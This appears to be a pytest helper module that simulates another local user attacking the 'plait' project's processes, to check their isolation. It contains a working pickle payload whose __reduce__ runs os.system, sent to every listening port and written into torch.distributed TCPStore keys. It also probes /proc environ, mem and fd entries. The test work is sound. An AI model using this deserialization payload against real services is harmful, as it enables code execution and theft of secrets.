"""Another user of this host, who knows all about plait, its processes and their ports."""

from __future__ import annotations

import base64
import encodings.idna  # noqa: F401 - which another user may not be able to read later
import os
import pickle
import re
import socket
import warnings
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest
import torch.distributed as dist

NOBODY = 65534
_HELLO = b"\0" + (0x3C85F7CE).to_bytes(4, "little") + b"\x0dping"  # a store of torch.distributed repeats its end

needs_proc = pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="who listens is read from Linux's /proc")
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can be another user for a moment")


def below(root: int) -> list[int]:
    """A process and all that descend from it."""
    children: dict[int, list[int]] = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        with_parent = _read(path).rpartition(")")[2].split()
        if with_parent:
            children.setdefault(int(with_parent[1]), []).append(int(path.parent.name))
    found = [root]
    for pid in found:
        found += children.get(pid, [])
    return found


def listening(pids: list[int]) -> list[tuple[str, int]]:
    """The addresses and ports that the processes listen at, by TCP or UDP."""
    inodes = set()
    for pid in pids:
        try:
            for descriptor in os.listdir(f"/proc/{pid}/fd"):
                link = os.readlink(f"/proc/{pid}/fd/{descriptor}")
                inodes |= set(re.findall(r"socket:\[(\d+)\]", link))
        except OSError:  # it has ended
            continue
    found = []
    for name in ("tcp", "tcp6", "udp", "udp6"):
        for line in _read(Path("/proc/net") / name).splitlines()[1:]:
            words = line.split()
            if words[9] in inodes and (words[3] == "0A" or name.startswith("udp")):
                address, _, port = words[1].partition(":")
                found.append((_address(address), int(port, 16)))
    return found


def _address(text: str) -> str:
    data = b"".join(bytes.fromhex(text[i : i + 8])[::-1] for i in range(0, len(text), 8))
    shown = socket.inet_ntop(socket.AF_INET if len(data) == 4 else socket.AF_INET6, data)
    return shown.removeprefix("::ffff:")


def _read(path: Path) -> str:
    try:
        return path.read_text()
    except OSError:
        return ""


def is_loopback(address: str) -> bool:
    return address == "::1" or address.startswith("127.")


def attack(pids: list[int]) -> list[str]:
    """What the other user gets hold of; what they have run leaves the file `planted` in the working folder."""
    ports = sorted({port for _, port in listening(pids)})
    here, there = os.pipe()
    victim = os.geteuid()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of threads, which the child does not have: it only looks around
        pid = os.fork()
    if pid == 0:
        try:
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            found = [*_planted(ports), *_opened(pids), *_entered(victim)]
        except BaseException as error:
            found = [f"the attack itself failed: {error!r}"]
        os.write(there, "\n".join(found).encode()[:4000])
        os._exit(0)
    os.close(there)
    with open(here) as reply:
        found = reply.read().splitlines()
    os.waitpid(pid, 0)
    return found


class _Payload:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self.command,)


def _planted(ports: list[int]) -> list[str]:
    """Write a pickle under every key of every store that answers, as a worker of torch.distributed would; returns the
    stores that took it."""
    bomb = pickle.dumps(_Payload(f"touch {os.getcwd()}/planted"))
    found = []
    for port in ports:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as line:
                line.sendall(bomb)
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as line:
                line.sendall(_HELLO)
                if line.recv(4) != _HELLO[-4:]:
                    continue
            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=2))
            for key in store.list_keys():
                store.set(key, base64.b64encode(bomb).decode())
            found.append(f"the store at port {port}")
        except (OSError, RuntimeError):
            continue
    return found


def _opened(pids: list[int]) -> list[str]:
    """The files, sockets and memory that processes have open, as far as their owner lets others at them."""
    found = []
    for pid in pids:
        for name in ("environ", "mem", "fd"):
            try:
                os.close(os.open(f"/proc/{pid}/{name}", os.O_RDONLY))
                found.append(f"/proc/{pid}/{name}")
            except OSError:
                continue
    return found


def _entered(victim: int) -> list[str]:
    """What the folders that all users share let others see of the victim's."""
    try:
        return os.listdir(f"/tmp/plait-{victim}")
    except PermissionError:
        return []
